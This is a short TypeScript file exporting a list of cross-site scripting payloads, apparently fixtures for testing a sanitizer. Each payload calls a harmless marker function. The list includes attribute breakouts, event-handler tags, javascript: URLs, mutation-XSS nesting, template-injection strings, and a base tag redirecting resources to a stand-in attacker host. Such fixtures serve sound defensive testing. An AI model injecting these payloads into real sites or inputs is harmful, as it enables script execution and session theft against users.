/** What people type who want their script to run in somebody else's browser; each would call `ran`. */
export const scriptPayloads = [
  '<script>ran(1)</script>',
  '</title></textarea></style></noscript></template><script>ran(2)</script>',
  '"><img src=x onerror=ran(3)>',
  "' autofocus onfocus=ran(4) x='",
  '<svg/onload=ran(5)>',
  '</script><script>ran(6)</script>',
  '<!--<script>ran(7)//-->',
  '<iframe srcdoc="<script>parent.ran(8)</script>"></iframe>',
  '<details open ontoggle=ran(9)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=ran(10)>',
  '<a href="javascript:ran(11)">x</a>',
  '<base href="//evil.example/"><link rel=import href=x>',
  '{{constructor.constructor("ran(13)")()}}$\u007bran(14)}',
  '\u2028ran(15)\u2029',
  '<meta http-equiv="refresh" content="0;url=javascript:ran(16)">',
  '<object data="data:text/html,<script>parent.ran(17)</script>"></object>',
]
